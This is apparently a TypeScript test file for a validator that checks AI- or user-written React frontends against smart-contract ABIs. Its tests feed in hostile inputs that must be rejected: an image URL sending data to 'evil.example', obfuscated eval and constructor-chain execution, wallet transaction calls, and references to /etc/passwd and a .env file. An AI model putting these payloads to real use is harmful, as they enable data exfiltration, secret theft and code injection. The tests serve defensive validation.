import { parseAbi } from 'viem';
import { expect, test } from 'vitest';
import { canTypeCheck, typeCheck } from '../model/type-check.ts';
import { frontendObjections, newSignatures } from './check-frontend.ts';

const before = `import { useState } from 'react';
import { type Abi, parseAbi } from 'viem';
declare function Action(props: { abi: Abi; functionName: string }): null;
const abi = parseAbi([
  'function cap() view returns (uint256)',
]);
export default function App() {
  const [count] = useState(0);
  return <><Action abi={abi} functionName="cap" />{count}</>;
}
`;
const abis = [parseAbi(['function cap() view returns (uint256)', 'function whisper(string words, (uint256 a, bool b)[] list) payable'])];
const adding = (signature: string, call = '') =>
  before.replace("(uint256)',\n", `(uint256)',\n  ${signature},\n`).replace('{count}', `{count}${call}`);
const fresh = new Set(['whisper']);
const objectionsTo = (after: string) => frontendObjections(before, after, { abis, fresh }).join(' ');

test('a frontend may call what the contract has, as it has it', () => {
  const whisper = "'function whisper(string, (uint256 x, bool)[]) payable'";
  expect(objectionsTo(adding(whisper, '<Action abi={abi} functionName="whisper" />'))).toBe('');
  expect(objectionsTo(adding("'function whisper(string) payable'"))).toContain('No contract');
  expect(objectionsTo(adding("'function whisper(string, (uint256, bool)[])'"))).toContain('No contract');
  expect(objectionsTo(adding("'function cap() view returns (string)'"))).toContain('No contract');
  expect(objectionsTo(adding("'function mint()'"))).toContain('No contract');
  expect(objectionsTo(adding("'nonsense'"))).toContain('no signature');
  expect(objectionsTo(adding('...others'))).toContain('written out');
  expect(objectionsTo(adding("'function cap() view returns (uint256)'", '<Action abi={abi} functionName="drain" />'))).toContain('“drain”');
  expect(objectionsTo(before.replace('"cap"', "{'ca' + 'p'}"))).toContain('out as a text');
  expect(objectionsTo(before.replace('"cap"', '{String(count)}'))).toContain('out as a text');
});

test('a frontend may not reach for the wallet, the network, the page around it or code out of texts', () => {
  for (const code of [
    '{window.ethereum.request({ method: "eth_sendTransaction" })}',
    '{fetch("/api/me")}',
    '{globalThis["ev" + "al"]("1")}',
    '{[]["constructor"]["constructor"]("return 1")()}',
    '<img src={`https://evil.example/${count}`} />',
    '<a href="/x">x</a>',
    '<div dangerouslySetInnerHTML={{ __html: "x" }} />',
    '{"0x90F79bf6EB2c4f870365E785982E1f101E93b906"}',
    '{/* @ts-ignore */ count}',
    '{(count as unknown).x}',
    '{[][`${"const"}ructor` as const]}',
    '{[self, top].map((one) => one.name)}',
    '{document.title}',
    '<script>1</script>',
    '{new Function("1")()}',
  ])
    expect(objectionsTo(before.replace('{count}', code)), code).toContain('not allowed');
  expect(objectionsTo(`/// <reference path="/etc/passwd" />\n${before}`)).toContain('not allowed');
  expect(objectionsTo(`import secret from '../../.env';\n${before}`)).toContain('import, export or declare is not allowed');
  // The same words in a sentence are only words.
  expect(objectionsTo(before.replace('{count}', 'Go to the top as often as you like, any parent object may. {count}'))).toBe('');
  // A comment does nothing, whatever is in it; what was there before may stay.
  expect(objectionsTo(before.replace('return <>', '// as the window has it\n  return <>'))).toBe('');
});

test('a new button does what it says: it calls what is new, with what people type, where the others do', () => {
  const withButton = (props: string) => before.replace('{count}', `<Action ${props} button="Whisper" />{count}`);
  expect(objectionsTo(withButton('contract="Moon" functionName="whisper" args={([to]) => [to]}'))).toBe('');
  for (const [props, told] of [
    ['functionName="cap"', '“cap” is not new'],
    ['functionName="whisper" args={() => [count]}', 'what people type'],
    ['functionName="whisper" args={([to]) => [count]} args={() => [1n]}', 'what people type'],
    ['functionName="whisper" contract={names[1]}', 'as the other buttons do'],
    ['functionName="whisper" spends={{ token: count, amount: 1n }}', '“spends” is not allowed'],
    ['functionName="whisper" contract={`0x${count}`}', 'in hex'],
    ['functionName="whisper" hint={"90F79bf6EB2c4f87" + "0365E785982E1f10"}', 'in hex'],
    ['functionName="whisper" hint={"\\u0030"}', 'in hex'],
    ['functionName="whisper" {...more}', 'taking properties over'],
  ] as const)
    expect(objectionsTo(withButton(props)), props).toContain(told);
});

test('what is new in a contract is told as signatures that are read again', () => {
  const more = parseAbi([
    'function cap() view returns (uint256)',
    'event Said(address indexed by, (uint256 a, bool b) what)',
    'error No()',
  ]);
  expect(newSignatures(abis, [...abis, more])).toEqual(['event Said(address indexed by, (uint256,bool) what)', 'error No()']);
  expect(newSignatures([], abis)[1]).toBe('function whisper(string words, (uint256,bool)[] list) payable');
  expect(() => parseAbi(newSignatures([], abis))).not.toThrow();
});

test('the type checker says what is wrong and where, and knows react and viem', { timeout: 120_000 }, async () => {
  expect(canTypeCheck()).toBe(true);
  const wrong = before.replace('useState(0)', 'useState<string>(0)');
  expect(await Promise.all([typeCheck(before), typeCheck(wrong)])).toEqual([[], [expect.stringMatching(/^line 8: .*number.*string/)]]);
  const stop = AbortSignal.abort(new Error('stopped'));
  await expect(typeCheck(before, stop)).rejects.toThrow('stopped');
});
